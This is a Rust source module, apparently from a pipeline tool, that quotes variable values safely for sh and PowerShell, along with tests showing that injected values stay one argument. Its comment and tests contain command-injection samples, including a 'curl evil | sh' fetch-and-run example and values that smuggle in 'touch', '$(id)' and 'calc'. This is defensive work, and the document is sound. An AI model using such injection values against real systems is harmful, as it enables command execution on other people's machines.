//! Variable values inserted into guest commands, quoted as one word of the command's shell.
//!
//! A `run` line is the pipeline author's command; a `{name}` in it is a value (a matrix cell, a
//! `variable`, a `--var` from the command line). The value is inserted as one word, so a value
//! such as `x; curl evil | sh` stays an argument and never becomes shell syntax. To splice shell
//! syntax, write it in the `run` line itself.

use kiln_syntax::model::Agent;

/// `value` as one POSIX `sh` word: single-quoted, each `'` written as `'\''`.
#[must_use]
pub fn sh_word(value: &str) -> String {
    format!("'{}'", value.replace('\'', r"'\''"))
}

/// `value` as one PowerShell word: a verbatim (single-quoted) string, each quote doubled.
/// PowerShell takes the typographic quotes U+2018–U+201B as single quotes too.
#[must_use]
pub fn powershell_word(value: &str) -> String {
    let mut out = String::with_capacity(value.len() + 2);
    out.push('\'');
    for c in value.chars() {
        if matches!(c, '\'' | '\u{2018}' | '\u{2019}' | '\u{201A}' | '\u{201B}') {
            out.push(c);
        }
        out.push(c);
    }
    out.push('\'');
    out
}

/// The quoting of `run` lines for `agent`: cloud-init runs them with `sh`, cloudbase-init (and
/// Windows first logon) with PowerShell.
#[must_use]
pub fn for_agent(agent: Agent) -> fn(&str) -> String {
    match agent {
        Agent::CloudInit => sh_word,
        Agent::CloudbaseInit => powershell_word,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::process::Command;

    /// What `sh` makes of `script`'s first argument list: one line per argument.
    fn sh_args(script: &str) -> Vec<String> {
        let out = Command::new("sh")
            .args([
                "-c",
                &format!("for a in {script}; do printf '%s\\n' \"$a\"; done"),
            ])
            .output()
            .expect("sh runs");
        String::from_utf8(out.stdout)
            .unwrap()
            .lines()
            .map(str::to_owned)
            .collect()
    }

    // A value used to be pasted into the command as shell syntax: `x; touch /tmp/owned` ran.
    #[test]
    fn sh_words_stay_one_argument_whatever_they_hold() {
        for value in [
            "plain",
            "two words",
            "x; touch /tmp/kiln-quote-owned",
            "it's",
            "'; echo '",
            "$(id) `id` $HOME \\ \" *",
            "",
            "-n",
        ] {
            assert_eq!(
                sh_args(&sh_word(value)),
                vec![value.to_owned()],
                "{value:?}"
            );
        }
        assert!(!std::path::Path::new("/tmp/kiln-quote-owned").exists());
    }

    #[test]
    fn powershell_words_double_every_single_quote() {
        assert_eq!(powershell_word("de-DE"), "'de-DE'");
        assert_eq!(powershell_word("it's"), "'it''s'");
        assert_eq!(
            powershell_word("a\u{2019}; calc"),
            "'a\u{2019}\u{2019}; calc'"
        );
        assert_eq!(powershell_word("$(calc)"), "'$(calc)'");
    }
}
